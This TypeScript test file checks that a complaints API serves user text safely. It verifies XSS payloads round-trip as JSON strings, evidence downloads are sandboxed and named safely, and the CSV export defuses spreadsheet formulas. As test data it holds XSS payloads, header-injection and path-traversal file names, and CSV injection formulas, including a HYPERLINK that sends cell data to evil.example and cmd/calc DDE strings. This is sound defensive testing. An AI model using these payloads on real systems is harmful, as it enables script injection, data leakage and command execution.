/**
 * Text from users is stored and served as text, everywhere: stored-XSS payloads in every text field
 * of complaints, workflow commands, evidence and observations come back byte for byte as JSON
 * strings (never as markup); evidence downloads are marked so a browser will not sniff, render or
 * run them (nosniff, a content-disposition, a sandboxing CSP); a file name cannot inject headers;
 * the CSV export defuses cells a spreadsheet would run as formulas. (The web app's rendering is
 * tested in the browser suite.)
 */
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ComplaintDetail, EvidenceDetail, EvidenceItem, Observation } from '@truceline/domain';
import { backends } from '../support/test-db.ts';
import { asSession, createTestApp, type SignedIn, type TestContext } from '../support/test-app.ts';
import { command, complaintBody, file, loadWorld, type World } from '../support/complaints.ts';

const FIXTURES = path.join(path.dirname(fileURLToPath(import.meta.url)), '../blobs/fixtures');
const PHOTO = fs.readFileSync(path.join(FIXTURES, 'photo.jpg'));

/** Classic payloads; each also fits the shortest text limit (200 characters). */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '\'-alert(1)-\'</title></textarea><iframe srcdoc="<script>alert(1)</script>">',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} \u2028\u2029 &lt;b&gt;',
] as const;

type Res = LightMyRequestResponse;

/** A JSON response, as JSON. */
function json<T>(res: Res): T {
  expect(res.statusCode, res.body).toBeLessThan(300);
  expect(String(res.headers['content-type'])).toMatch(/^application\/json/);
  expect(res.headers['x-content-type-options']).toBe('nosniff');
  return res.json() as T;
}

/** RFC 4180 CSV into rows of cells (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n' || (ch === '\r' && text[i + 1] === '\n')) {
      if (ch === '\r') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

for (const backend of await backends()) {
  describe(`stored XSS: user text is served as text (${backend.name})`, () => {
    let t: TestContext;
    let w: World;
    let evidenceDir: string;

    beforeAll(async () => {
      evidenceDir = fs.mkdtempSync(path.join(process.env.TMPDIR ?? '/tmp', 'truceline-xss-'));
      t = await createTestApp(backend, { env: { TRUCELINE_EVIDENCE_DIR: evidenceDir } });
      w = await loadWorld(t.app);
    });
    afterAll(async () => {
      await t.close();
      fs.rmSync(evidenceDir, { recursive: true, force: true });
    });

    const read = (as: SignedIn | null, url: string) =>
      t.app.inject({ url, headers: as ? asSession(as) : {} });

    for (const [n, x] of PAYLOADS.entries()) {
      it(`payload ${n + 1} in every text field of a complaint and its workflow comes back byte for byte`, async () => {
        const title = `T ${x}`;
        const filed = await file(
          t.app,
          w.as.pk,
          complaintBody(w, {
            title,
            narrative: { text: `N ${x}`, language: 'en' },
            accusedGroup: `G ${x}`,
            casualties: [{ status: 'civilian', killed: 1, injured: 2, reportedBy: `R ${x}` }],
          }),
        );
        expect(filed.status, JSON.stringify(filed.json)).toBe(201);
        const id = filed.json.id;
        let v = filed.json.version;
        const step = async (who: SignedIn, route: string, body: Record<string, unknown>) => {
          const r = await command(t.app, who, id, route, { version: v, ...body });
          expect(r.status, JSON.stringify(r.json)).toBe(200);
          v = r.json.complaint.version;
          return r.json;
        };
        await step(w.as.tr, 'transitions', { command: 'register', reason: `register ${x}` });
        await step(w.as.tr, 'transitions', { command: 'open_reply_window', reason: `open ${x}` });
        await step(w.as.af, 'reply', { text: `reply ${x}`, language: 'ps' });
        await step(w.as.tr, 'investigation', {
          reason: `task ${x}`,
          teamUserIds: [w.as.monitor.userId],
          instructions: `instructions ${x}`,
        });
        await step(w.as.monitor, 'investigation/report', { report: `report ${x}` });
        await step(w.as.tr, 'finding', {
          reason: `draft ${x}`,
          outcome: 'violation_attributed',
          attributedGroup: `attributed ${x}`,
          confidence: 'low',
          provisionIds: [w.agreement.provisions[0]?.id],
          summary: `summary ${x}`,
          penalty: `penalty ${x}`,
        });
        await step(w.as.tr, 'reviews', { verdict: 'sign_off', note: `tr note ${x}` });
        await step(w.as.qa, 'reviews', { verdict: 'dissent', note: `qa note ${x}` });
        await step(w.as.tr, 'transitions', { command: 'issue_finding', reason: `issue ${x}` });
        await step(w.as.tr, 'follow-ups', { kind: 'measure', text: `follow-up ${x}` });
        await step(w.as.tr, 'visibility', { visibility: 'public', reason: `publish ${x}` });

        // What each reader gets is exactly what was sent, as JSON strings.
        for (const as of [w.as.tr, w.as.pk, w.as.af, null]) {
          const d = json<ComplaintDetail>(await read(as, `/api/v1/complaints/${id}`));
          expect(d.complaint.title).toBe(title);
          expect(d.complaint.narrative.text).toBe(`N ${x}`);
          expect(d.complaint.accused.group).toBe(`G ${x}`);
          expect(d.complaint.casualties[0]?.reportedBy).toBe(`R ${x}`);
          expect(d.reply?.text).toBe(`reply ${x}`);
          expect(d.finding?.summary).toBe(`summary ${x}`);
          expect(d.finding?.penalty).toBe(`penalty ${x}`);
          expect(d.finding?.attributedGroup).toBe(`attributed ${x}`);
          expect(d.reviews.map((r) => r.note).sort()).toEqual([`qa note ${x}`, `tr note ${x}`]);
          const reasons = d.transitions.map((r) => r.reason);
          for (const r of [`register ${x}`, `open ${x}`, `issue ${x}`, `follow-up ${x}`]) {
            expect(reasons).toContain(r);
          }
          if (as === w.as.tr) {
            expect(d.investigation?.instructions).toBe(`instructions ${x}`);
            expect(d.investigation?.report).toBe(`report ${x}`);
            expect(reasons).toContain(`draft ${x}`);
            expect(reasons).toContain(`publish ${x}`);
          }
        }
        const list = json<{ items: { id: string; title: string; narrative: { text: string } }[] }>(
          await read(null, `/api/v1/complaints?limit=200`),
        );
        const listed = list.items.find((c) => c.id === id);
        expect(listed?.title).toBe(title);
        expect(listed?.narrative.text).toBe(`N ${x}`);
        const exported = json<{ items: { notes: string; actor1: string }[] }>(
          await read(w.as.tr, `/api/v1/complaints/export?format=json`),
        );
        expect(exported.items.map((r) => r.notes)).toContain(title);
        // Notifications carry the title as a parameter, never as markup.
        const inbox = json<{ items: { complaintId: string; params: { title?: string } }[] }>(
          await read(w.as.af, '/api/v1/me/notifications?limit=200'),
        );
        const mine = inbox.items.filter((i) => i.complaintId === id);
        expect(mine.length).toBeGreaterThan(0);
        for (const i of mine) expect(i.params.title).toBe(title);
      });
    }

    it('evidence text fields come back byte for byte; every download is sandboxed, unsniffable and named safely', async () => {
      const filed = await file(t.app, w.as.pk, complaintBody(w, { title: 'Evidence XSS' }));
      expect(filed.status).toBe(201);
      const id = filed.json.id;
      const x = PAYLOADS[0];
      const up = (body: Buffer, query: Record<string, string>) =>
        t.app.inject({
          method: 'POST',
          url: `/api/v1/complaints/${id}/evidence/files`,
          query: { visibility: 'joint', ...query },
          headers: { ...asSession(w.as.pk), 'content-type': 'application/octet-stream' },
          payload: body,
        });
      // Markup uploaded as files: HTML, SVG with script, and a photo with a hostile name.
      const uploads: [Buffer, Record<string, string>, RegExp][] = [
        [
          Buffer.from(`<!doctype html><html><body>${x}<img src=x onerror=alert(1)></body></html>`),
          { title: `title ${x}`, description: `description ${x}`, fileName: `${x}.html` },
          /^text\/plain; charset=utf-8$/,
        ],
        [
          Buffer.from(
            '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
          ),
          { title: PAYLOADS[2], fileName: 'map.svg' },
          /^text\/plain; charset=utf-8$/,
        ],
        [
          PHOTO,
          { title: PAYLOADS[1], fileName: 'evil\r\nSet-Cookie: pwned=1\r\nX-Evil: 1.jpg' },
          /^image\/jpeg$/,
        ],
        [
          Buffer.from('Quote in the name.\n'),
          { title: 'quote', fileName: 'a"; filename="evil.html' },
          /^text\/plain; charset=utf-8$/,
        ],
        [
          Buffer.from('Path in the name.\n'),
          { title: 'path', fileName: '../../etc/passwd;.txt' },
          /^text\/plain; charset=utf-8$/,
        ],
      ];
      for (const [bytes, query, mime] of uploads) {
        const res = await up(bytes, query);
        expect(res.statusCode, res.body).toBe(201);
        const item = json<EvidenceItem>(res);
        expect(item.title).toBe(query['title']);
        expect(item.fileName).toBe(query['fileName']);
        if (query['description'] !== undefined) expect(item.description).toBe(query['description']);
        const detail = json<EvidenceDetail>(await read(w.as.tr, `/api/v1/evidence/${item.id}`));
        expect(detail.item.title).toBe(query['title']);
        expect(detail.item.fileName).toBe(query['fileName']);
        for (const url of [
          `/api/v1/evidence/${item.id}/content`,
          `/api/v1/files/${item.file?.sha256}`,
        ]) {
          const dl = await read(w.as.tr, url);
          expect(dl.statusCode, url).toBe(200);
          expect(dl.rawPayload.equals(bytes)).toBe(true);
          expect(String(dl.headers['content-type'])).toMatch(mime);
          expect(dl.headers['x-content-type-options']).toBe('nosniff');
          const csp = String(dl.headers['content-security-policy']);
          expect(csp).toMatch(/(^|;\s*)sandbox(\s*;|$)/);
          expect(csp).toMatch(/default-src 'none'/);
          // One disposition, in RFC 8187 form with only safe characters: no way out of the header.
          const disposition = dl.headers['content-disposition'];
          expect(typeof disposition).toBe('string');
          expect(String(disposition)).toMatch(
            /^(inline|attachment); filename\*=UTF-8''[A-Za-z0-9%._-]+$/,
          );
          // Markup is never shown in place.
          if (!mime.test('image/jpeg')) expect(String(disposition)).toMatch(/^attachment;/);
          expect(dl.headers['set-cookie']).toBeUndefined();
          expect(dl.headers['x-evil']).toBeUndefined();
        }
      }
      // Statements: title, description and statement.
      const statement = await t.app.inject({
        method: 'POST',
        url: `/api/v1/complaints/${id}/evidence`,
        headers: asSession(w.as.pk),
        payload: {
          type: 'statement',
          title: PAYLOADS[3],
          description: PAYLOADS[4],
          statement: PAYLOADS.join('\n'),
          language: 'en',
          visibility: 'joint',
        },
      });
      expect(statement.statusCode, statement.body).toBe(201);
      const sid = json<EvidenceItem>(statement).id;
      const listed = json<{ items: EvidenceItem[] }>(
        await read(w.as.pk, `/api/v1/complaints/${id}/evidence`),
      ).items.find((i) => i.id === sid);
      expect(listed).toMatchObject({
        title: PAYLOADS[3],
        description: PAYLOADS[4],
        statement: PAYLOADS.join('\n'),
      });
    });

    it('observation source and notes come back byte for byte', async () => {
      const items = PAYLOADS.map((x) => ({
        observedAt: '2025-10-20T04:00:00Z',
        timePrecision: 'hour',
        latitude: 34.1,
        longitude: 71.09,
        locationPrecision: 'approximate',
        type: 'people_crossing',
        count: 10,
        source: `source ${x}`,
        sourceKind: 'media',
        notes: `notes ${x}`,
        visibility: 'public',
      }));
      const res = await t.app.inject({
        method: 'POST',
        url: '/api/v1/observations',
        headers: asSession(w.as.monitor),
        payload: { items },
      });
      expect(res.statusCode, res.body).toBe(201);
      const ids = new Set(json<{ items: Observation[] }>(res).items.map((o) => o.id));
      const seen = json<{ items: Observation[] }>(
        await read(null, '/api/v1/observations?limit=1000'),
      ).items.filter((o) => ids.has(o.id));
      expect(seen.map((o) => [o.source, o.notes]).sort()).toEqual(
        PAYLOADS.map((x) => [`source ${x}`, `notes ${x}`]).sort(),
      );
    });

    it('the CSV export defuses cells that start with = + - @ (or a tab or carriage return); JSON keeps them as they are', async () => {
      const formulas = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '\t=1+1 tabbed',
        '\r=1+1 carriage',
      ];
      const ids: string[] = [];
      for (const f of formulas) {
        // No accused organisation: the accused group is the ACLED actor1 column.
        const filed = await file(
          t.app,
          w.as.pk,
          complaintBody(w, { title: f, accusedOrganisationId: undefined, accusedGroup: f }),
        );
        expect(filed.status, JSON.stringify(filed.json)).toBe(201);
        ids.push(filed.json.reference);
      }
      const csvRes = await read(w.as.tr, '/api/v1/complaints/export?format=csv');
      expect(csvRes.statusCode).toBe(200);
      expect(String(csvRes.headers['content-type'])).toMatch(/^text\/csv/);
      expect(String(csvRes.headers['content-disposition'])).toMatch(/^attachment;/);
      expect(csvRes.headers['x-content-type-options']).toBe('nosniff');
      const rows = parseCsv(csvRes.body);
      const header = rows[0] ?? [];
      const col = (name: string) => header.indexOf(name);
      for (const [i, f] of formulas.entries()) {
        const row = rows.find((r) => r[col('event_id_cnty')] === ids[i]);
        expect(row, f).toBeDefined();
        for (const name of ['notes', 'actor1']) {
          const cell = row?.[col(name)] ?? '';
          expect(cell, `${name} of ${JSON.stringify(f)}`).toBe(`'${f}`);
        }
      }
      // Every cell of every row: nothing a spreadsheet would run, except plain numbers.
      for (const r of rows.slice(1)) {
        for (const cell of r) {
          if (/^-?\d+(\.\d+)?$/.test(cell)) continue;
          expect(cell, JSON.stringify(r)).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
      const jsonRes = json<{ items: { event_id_cnty: string; notes: string; actor1: string }[] }>(
        await read(w.as.tr, '/api/v1/complaints/export?format=json'),
      );
      for (const [i, f] of formulas.entries()) {
        const row = jsonRes.items.find((r) => r.event_id_cnty === ids[i]);
        expect(row?.notes).toBe(f);
        expect(row?.actor1).toBe(f);
      }
    });
  });
}
